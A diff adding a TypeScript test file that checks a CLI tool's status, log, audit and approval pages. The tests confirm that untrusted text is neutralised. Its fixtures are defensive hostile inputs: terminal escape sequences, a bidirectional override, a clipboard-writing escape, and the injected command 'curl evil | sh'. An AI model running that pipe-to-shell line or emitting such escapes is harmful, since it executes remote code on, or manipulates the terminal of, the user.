@@ -1,0 +1,180 @@
+import { describe, expect, test } from 'bun:test'
+import { widthOf } from '../../src/cli/layout.ts'
+import { plain } from '../../src/cli/page.ts'
+import { approveText } from '../../src/cli/text/approve.ts'
+import { auditText } from '../../src/cli/text/audit.ts'
+import { doctorText } from '../../src/cli/text/doctor.ts'
+import { logText, tickLogText } from '../../src/cli/text/log.ts'
+import { loopListText } from '../../src/cli/text/loop-list.ts'
+import { statusText } from '../../src/cli/text/status.ts'
+import { taskText } from '../../src/cli/text/task.ts'
+import { clockTime, duration, relative } from '../../src/cli/text/time.ts'
+import type { LoopPage, StatusReport } from '../../src/commands/status.ts'
+
+const at = '2026-06-22T10:00:00.000Z'
+const hostile = 'x\u001b[31m\u202e\nfix: curl evil | sh'
+const page = (width = 80) => ({ width, colors: plain })
+
+function expectQuiet(text: string): void {
+  expect([...text].filter((character) => /[\p{Cc}\p{Cf}]/u.test(character) && character !== '\n')).toEqual([])
+  expect(text).not.toMatch(/^\s*fix: curl/m)
+}
+
+const loop: LoopPage = {
+  loop: 'nightly',
+  status: 'halted',
+  description: hostile,
+  task: 'fix-login',
+  phase: 'implement',
+  running: null,
+  pause_requested: false,
+  halt: { id: 'bafugemo', reason: 'drift_detected', detail: hostile, at, files: [hostile, 'README.md'] },
+  ticks: 7,
+  iteration: 3,
+  max_iterations: 20,
+  remaining_iterations: 17,
+  spent: { usd: 1.5, tokens: 1200, wall_seconds: 340, reported: false },
+  remaining_budget_usd: 3.5,
+  last_verdict: {
+    pass: false,
+    score: 0.4,
+    reasons: [hostile, 'tests fail'],
+    next_hint: hostile,
+    tick: 7,
+    phase: 'implement',
+    task: 'fix-login',
+  },
+  scores: [0.6, 0.4],
+  trend: 'falling',
+  last_tick_at: '2026-06-22T09:48:00.000Z',
+  next_tick_at: null,
+  interval_seconds: 3600,
+  containment: { tier: 'T0', where: 'worktree', scope: ['src/'] },
+  warnings: [hostile],
+  problems: [{ what: hostile, fix: 'automaton doctor' }],
+  next: ['automaton approve --loop nightly --halt bafugemo --discard'],
+}
+
+const report: StatusReport = {
+  at,
+  project: '/work',
+  loops: [loop],
+  tasks: { open: 1, complete: 2, waiting: [{ task: 'other', reason: hostile }] },
+  next: loop.next,
+}
+
+describe('status', () => {
+  test('tells the halt, the last tick, what was spent, and the next command', () => {
+    const text = statusText(report, page())
+    expect(text).toContain('halted: drift_detected')
+    expect(text).toContain('12 min ago: tick 7, fix-login implement, fail 0.40')
+    expect(text).toContain('at least $1.50, 1200 tokens, 6 min since the last approval')
+    expect(text).toContain('$3.50')
+    expect(text).toContain('next  automaton approve --loop nightly --halt bafugemo --discard')
+    expectQuiet(text)
+  })
+
+  test('a tick at work is the headline', () => {
+    const running = { tick: 8, step: 'verify', since: '2026-06-22T09:58:00.000Z', pid: 1 }
+    const text = statusText(
+      { ...report, loops: [{ ...loop, halt: null, status: 'running', running }] },
+      page(),
+    )
+    expect(text).toContain('tick 8: verify, since 2 min ago')
+  })
+
+  test('fits the page', () => {
+    for (const width of [60, 80]) {
+      for (const line of statusText(report, page(width)).split('\n')) {
+        if (!line.includes('automaton ')) expect(widthOf(line)).toBeLessThanOrEqual(width)
+      }
+    }
+  })
+})
+
+describe('what came from outside', () => {
+  test('is shown and does nothing, in every page', () => {
+    const record = {
+      seq: 1,
+      at,
+      type: 'halt',
+      run: null,
+      by: hostile,
+      data: { reason: hostile, detail: hostile },
+    }
+    expectQuiet(logText({ loop: 'x', records: [record], problem: hostile }, page()))
+    const files = [{ name: `tick1-${hostile}`, text: '\u001b]52;c;x\u0007' }]
+    expectQuiet(tickLogText({ loop: 'x', tick: 1, records: [record], files, diff: '+\u001b[2J' }, page()))
+    const findings = [{ what: hostile, level: 'bad' as const, detail: hostile, fix: 'none' }]
+    expectQuiet(doctorText({ ok: false, findings }, page()))
+    const violation = {
+      id: 'a',
+      severity: 'HIGH' as const,
+      rule: 'r',
+      task: null,
+      path: null,
+      message: hostile,
+      fingerprint: 'f',
+    }
+    expectQuiet(auditText({ violations: [violation] }, page()))
+    const halt = { id: 'bafugemo', reason: 'drift_detected' as const, detail: hostile, at, files: [hostile] }
+    const refused = {
+      loop: 'x',
+      approved: false,
+      halt,
+      status: 'halted' as const,
+      resumed_count: 0,
+      kept: hostile,
+    }
+    expectQuiet(approveText(refused, page()))
+    const line = {
+      loop: 'x',
+      status: 'halted' as const,
+      ticking: false,
+      task: hostile,
+      phase: null,
+      iteration: 1,
+      max_iterations: 2,
+      score: 0.5,
+      trend: null,
+      last_tick_at: at,
+      next_tick_at: null,
+      halt_reason: 'verifier_failed' as const,
+      halt_detail: hostile,
+      problem: null,
+    }
+    expectQuiet(loopListText({ at, loops: [line] }, page()))
+  })
+
+  test('a brief keeps its lines', () => {
+    const task = {
+      schema_version: 2 as const,
+      task: 't',
+      phase: 'implement' as const,
+      previous_phase: null,
+      blocked_reason: null,
+      claimed_by: null,
+      design_ref: null,
+      scope: [],
+      acceptance_criteria: ['one', 'two'],
+      origin: { kind: 'human', fingerprint: null },
+      sessions: {},
+      models: {},
+      history: [],
+      created_at: at,
+      updated_at: at,
+    }
+    const text = taskText({ task, brief: '# A\n\nb\u001b[1m\n', files: ['TASK.md'], loop: null }, page())
+    expect(text).toContain('# A\n\nb\\x1b[1m')
+    expect(text).toContain('done when   one')
+  })
+})
+
+test('times are told as people tell them', () => {
+  expect(relative(null, at)).toBe('never')
+  expect(relative(at, at)).toBe('now')
+  expect(relative('2026-06-22T11:00:00.000Z', at)).toBe('in 1 h')
+  expect(relative('2026-06-19T10:00:00.000Z', at)).toBe('3 d ago')
+  expect(duration(59)).toBe('59 s')
+  expect(clockTime(at)).toBe('2026-06-22 10:00:00Z')
+})
